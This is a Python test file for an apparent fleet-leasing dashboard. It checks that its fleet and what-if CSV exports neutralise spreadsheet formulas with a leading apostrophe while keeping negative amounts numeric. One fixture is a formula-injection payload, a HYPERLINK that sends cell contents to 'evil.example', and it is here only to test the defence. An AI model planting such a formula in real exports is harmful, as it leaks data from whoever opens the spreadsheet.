"""The fleet CSV and the what-if CSV, opened with Python's csv module as a spreadsheet would read them: a text cell
that starts with = + - @ (a formula in Excel or LibreOffice) is written with a leading apostrophe, and a plain
number such as -21.60 stays a number."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
from dataclasses import replace
from urllib.parse import unquote

import pytest
from sqlmodel import select

from leasedash.db.models import Contract, User, Vehicle
from leasedash.db.session import session_scope
from leasedash.pages.fleet.state import FleetState
from leasedash.pages.what_if.keeping import WhatIfScenariosState
from leasedash.services.spreadsheet_cells import safe_cell

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1")


@pytest.mark.parametrize("value", FORMULAS)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-21.60", "536.32", "+5", "-3", "0.950", "Sofie Peeters", "", 12, None])
def test_plain_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def _numbers_stay_numbers(cells: list[str]) -> None:
    for cell in cells:
        if cell:
            float(cell)


def test_the_fleet_csv_neutralises_formulas_and_keeps_negative_amounts_numbers(own_state, own_demo, monkeypatch, tmp_path):
    url, _ = own_demo
    monkeypatch.setenv("LEASEDASH_EXPORT_DIR", str(tmp_path))
    manager = own_state(FleetState, "fleet@example.com")
    company = manager.viewer().company_id
    with session_scope(url) as s:
        contract = s.exec(select(Contract).where(Contract.company_id == company, Contract.status == "active")).first()
        driver, car = s.get(User, contract.driver_id), s.get(Vehicle, contract.vehicle_id)
        driver.first_name, driver.last_name, car.plate = FORMULAS[0], FORMULAS[3], FORMULAS[2]
        reference = contract.reference
    manager.load()

    async def drain(handler):
        async for _ in handler.fn(manager):
            pass

    asyncio.run(drain(FleetState.project))
    asyncio.run(drain(FleetState.export))
    with (tmp_path / manager.export_url.partition("?")[0].rsplit("/", 1)[-1]).open(encoding="utf-8", newline="") as exported:
        rows = list(csv.DictReader(exported))
    row = next(r for r in rows if r["reference"] == reference)
    assert row["driver"] == "'" + f"{FORMULAS[0]} {FORMULAS[3]}" and row["plate"] == "'" + FORMULAS[2]
    assert any(r["projected_settlement"].startswith("-") for r in rows)
    for r in rows:
        _numbers_stay_numbers([r["monthly_rent"], r["pace_vs_plan"], r["projected_km"], r["projected_settlement"]])
        assert not any(value.startswith(("=", "+", "@")) for value in r.values())


def test_the_what_if_csv_neutralises_a_scenario_named_as_a_formula_and_keeps_a_refund_a_number(own_state):
    scenarios = own_state(WhatIfScenariosState, "driver@example.com")
    what_if = scenarios.parent_state
    what_if.load()
    what_if.controls = replace(what_if.controls, km_mode="custom", return_km=max(1000, what_if.controls.return_km // 2))
    scenarios.set_save_name(FORMULAS[0])
    scenarios.keep()
    assert what_if.problem == "" and len(what_if.kept_rows) == 1
    download = scenarios.export_csv()
    data = next(str(v._var_value) for _, v in download.args if str(getattr(v, "_var_value", "")).startswith("data:"))
    header, _, body = data.partition(",")
    text = base64.b64decode(body).decode("utf-8") if header.endswith(";base64") else unquote(body)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["scenario", "events", "monthly_rent", "total_settlement", "whole_cost"]
    kept = rows[1]
    assert kept[0] == "'" + FORMULAS[0] and kept[3].startswith("-")
    _numbers_stay_numbers(kept[2:])
